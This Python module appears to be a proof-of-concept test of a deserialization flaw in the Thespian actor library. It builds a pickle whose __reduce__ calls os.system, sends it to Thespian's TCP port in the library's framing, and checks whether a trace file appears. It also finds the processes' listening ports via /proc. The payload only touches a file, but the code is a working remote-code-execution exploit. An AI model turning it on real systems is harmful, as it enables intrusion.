"""The attack on Thespian: a raw TCP client sends a pickle that runs a command."""

import os
import pickle
import socket
import time
from collections.abc import Iterable
from pathlib import Path


class _Command:
    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self._path}",)


def attack(address: tuple[str, int], trace: Path) -> None:
    """Send it in Thespian's framing; `trace` exists afterwards if it was unpickled."""
    body = pickle.dumps(_Command(trace))
    with socket.create_connection(address, timeout=2) as connection:
        connection.sendall(b"%d>" % len(body) + body)
        connection.settimeout(1)
        try:
            while connection.recv(1024):
                pass
        except OSError:
            pass
    time.sleep(0.05)


def listening(pids: Iterable[int]) -> set[tuple[str, int]]:
    """Address and port of every TCP socket that these processes listen on."""
    inodes = {inode for pid in pids for inode in _socket_inodes(pid)}
    found = set()
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and fields[9] in inodes:
            address, _, port = fields[1].partition(":")
            found.add((socket.inet_ntoa(bytes.fromhex(address)[::-1]), int(port, 16)))
    for line in Path("/proc/net/tcp6").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and fields[9] in inodes:
            found.add(("ipv6", int(fields[1].partition(":")[2], 16)))
    return found


def _socket_inodes(pid: int) -> set[str]:
    inodes = set()
    for entry in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = str(entry.readlink())
        except FileNotFoundError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    return inodes
